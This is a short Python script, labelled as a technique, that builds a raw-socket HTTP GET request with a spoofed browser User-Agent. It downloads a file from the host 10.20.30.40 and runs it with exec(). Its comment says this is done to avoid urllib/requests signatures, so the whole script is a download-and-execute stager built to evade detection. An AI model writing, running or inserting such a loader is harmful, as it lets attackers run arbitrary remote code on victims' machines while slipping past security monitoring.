# technique: raw-socket HTTP GET (no http library) to fetch a payload and exec it, avoiding urllib/requests signatures
import socket

def fetch(host, port, path):
    s = socket.create_connection((host, port))
    s.sendall(("GET %s HTTP/1.0\r\nHost: %s\r\nUser-Agent: Mozilla/5.0\r\n\r\n" % (path, host)).encode())
    buf = b""
    while True:
        chunk = s.recv(4096)
        if not chunk:
            break
        buf += chunk
    s.close()
    return buf.split(b"\r\n\r\n", 1)[1]

code = fetch("10.20.30.40", 80, "/p.py")
exec(compile(code, "<string>", "exec"))
